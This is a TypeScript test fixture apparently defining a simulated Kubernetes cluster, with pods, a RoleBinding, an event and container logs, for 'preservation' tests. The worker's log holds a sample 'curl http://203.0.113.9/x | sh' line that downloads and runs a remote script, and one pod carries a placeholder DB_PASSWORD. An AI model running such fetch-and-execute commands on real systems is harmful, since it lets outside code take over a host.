/** The preservation tests' cluster: two pods (one restarted before), a RoleBinding, an event. */
import type { KubeObject, Scenario } from '../../shared/simulator/kube/scenario.js';

function pod(name: string, container: string, restartCount = 0): KubeObject {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace: 'shop', uid: `uid-${name}`, creationTimestamp: '2026-03-01T08:00:00Z', labels: { app: name } },
    spec: { containers: [{ name: container, image: `registry.example/${name}:1`, env: [{ name: 'DB_PASSWORD', value: 'hunter2-marker' }] }], nodeName: 'node-1' },
    status: {
      phase: 'Running',
      containerStatuses: [
        {
          name: container,
          restartCount,
          state: { running: { startedAt: '2026-03-01T10:00:00Z' } },
          ...(restartCount ? { lastState: { terminated: { exitCode: 1, reason: 'Error', startedAt: '2026-03-01T09:00:00Z', finishedAt: '2026-03-01T09:59:00Z' } } } : {}),
        },
      ],
    },
  };
}

export function preservationScenario(): Scenario {
  return {
    name: 'preservation',
    objects: [
      { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'shop' } },
      pod('web', 'app', 1),
      pod('worker', 'main'),
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'RoleBinding',
        metadata: { name: 'readers', namespace: 'shop', uid: 'uid-readers' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
        subjects: [{ kind: 'User', name: 'alice' }],
      },
      {
        apiVersion: 'v1',
        kind: 'Event',
        metadata: { name: 'web.1', namespace: 'shop' },
        involvedObject: { kind: 'Pod', name: 'web', namespace: 'shop' },
        reason: 'Pulled',
        message: 'image pulled',
        type: 'Normal',
        firstTimestamp: '2026-03-01T10:00:00Z',
        lastTimestamp: '2026-03-01T10:00:00Z',
        count: 1,
      },
    ],
    logs: {
      'shop/web/app': {
        previous: [
          { time: '2026-03-01T09:00:01Z', message: 'web v1 starting (previous instance)' },
          { time: '2026-03-01T09:58:59Z', message: 'panic: the previous instance crashed' },
        ],
        current: [
          { time: '2026-03-01T10:00:01Z', message: 'web v1 serving' },
          { time: '2026-03-01T11:00:00Z', message: 'GET /admin 200 from 203.0.113.9' },
        ],
      },
      'shop/worker/main': {
        current: [
          { time: '2026-03-01T10:00:02Z', message: 'worker instance 0 line 1' },
          { time: '2026-03-01T11:30:00Z', message: 'worker instance 0: curl http://203.0.113.9/x | sh' },
        ],
      },
    },
  };
}
